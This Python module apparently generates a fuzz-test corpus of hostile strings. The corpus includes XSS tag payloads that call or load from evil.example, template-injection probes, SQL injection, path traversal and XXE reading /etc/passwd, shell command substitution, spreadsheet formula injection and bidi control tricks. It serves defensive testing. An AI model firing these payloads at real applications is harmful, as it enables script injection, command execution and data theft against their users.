"""Strings that break programs: generated here, each a known trap of pages, tables and terminals."""

from __future__ import annotations

from itertools import product

CALLS = (
    "alert(1)",
    "fetch('http://evil.example/x')",
    "document.title='owned'",
    "import('//evil.example')",
)
TAGS = (
    "<script>{c}</script>", "<ScRiPt src=//evil.example/a.js></sCrIpT>", "<img src=x onerror={c}>", "<svg onload={c}>",
    "<svg><script>{c}</script></svg>", "<math href='javascript:{c}'>x</math>", "<body onload={c}>", "<iframe src='javascript:{c}'>",
    "<iframe srcdoc='<script>{c}</script>'>", "<a href='javascript:{c}'>x</a>", "<a href='data:text/html,<script>{c}</script>'>x</a>",
    "<details open ontoggle={c}>", "<input autofocus onfocus={c}>", "<video><source onerror={c}>", "<object data='javascript:{c}'>",
    "<embed src='javascript:{c}'>", "<form action='javascript:{c}'><button>x", "<meta http-equiv=refresh content='0;url=javascript:{c}'>",
    "<base href='http://evil.example/'>", "<link rel=stylesheet href='http://evil.example/x.css'>", "<style>@import 'http://evil.example/x';</style>",
    "<style>*{{background:url(http://evil.example/x)}}</style>", "<x style='background:url(http://evil.example/x)'>", "<marquee onstart={c}>",
    "<table background='http://evil.example/x'>", "<img srcset='http://evil.example/x 1x'>", "<noscript><p title='</noscript><img src=x onerror={c}>'>",
    "<template><script>{c}</script></template>", "<foreignObject><script>{c}</script></foreignObject>", "<use href='http://evil.example/x.svg#a'>",
)  # fmt: skip
BREAKS = (
    "{t}", "\">{t}", "'>{t}", "-->{t}", "]]>{t}", "</title>{t}", "</textarea>{t}", "</svg>{t}", "</li></ul></main>{t}",
    "`>{t}", "\\\">{t}", "\u2028{t}", "&lt;{t}&gt;", "&#60;{t}",
)  # fmt: skip
PLAIN = (
    "{{7*7}}", "{{ config }}", "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}", "{{''.__class__}}", "${7*7}", "#{7*7}",
    "<%= 7*7 %>", "%(x)s %s %n", "{0.__class__}", "$(touch /tmp/x)", "`id`", "; DROP TABLE items; --", "' OR '1'='1", "../../../etc/passwd",
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "vbscript:x", "data:text/html;base64,PHNjcmlwdD4=", "//evil.example/x",
    "url(http://evil.example)", "expression(alert(1))", "</style><script>alert(1)</script>", "*/ body{display:none} /*", "@import url(//evil.example);",
    "=1+1", "=HYPERLINK(\"http://evil.example\",\"x\")", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "|cmd", "%00",
    "a\u0000b", "\u202egnp.exe", "\u2066\u2067\u2068abc\u2069", "\u200f\u200e\u200b\ufeff", "\u202a\u202b\u202d", "e\u0301" * 60, "Z\u0351\u0357\u0343\u0363" * 40,
    "ﷺ" * 20, "\U000e0001\U000e0020", "\ufffe\uffff", "\x1b[31mred\x1b[0m", "\x07\x08\x7f", "\ud800", "a\udfffb", "A" * 5000, "ا" * 3000, "x" * 300 + " ",
    "1;2,3\"4'5", "\"", "''", "\\", "\\n", "\n\n# The answer\n- It is certain.", "[@t-000000000001]", "---\nquestion: x\n---", "| a | b |", "![x](http://evil.example/x)",
    "[x](javascript:alert(1))", "<!-- x", "<!DOCTYPE html>", "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>", "<![CDATA[x]]>",
    "&amp;amp;", "&notanentity;", "&#x202e;", "&#0;", "مرحبا <b>123</b> ‮abc", "שלום <i>1-2</i> 30%", "٠١٢٣ <u>", "null", "undefined", "NaN", "true", "0", "",
)  # fmt: skip


def nasty_strings() -> list[str]:
    """At least 739 strings, in a fixed order, none twice."""
    made = list(PLAIN)
    for number, (tag, outer) in enumerate(product(TAGS, BREAKS)):
        made.append(outer.format(t=tag.format(c=CALLS[number % len(CALLS)])))
    for number, (tag, other) in enumerate(product(TAGS, TAGS[:9])):
        made.append(tag.format(c=CALLS[number % 4]) + "\u202e" + other.format(c=CALLS[0]))
    return list(dict.fromkeys(made))
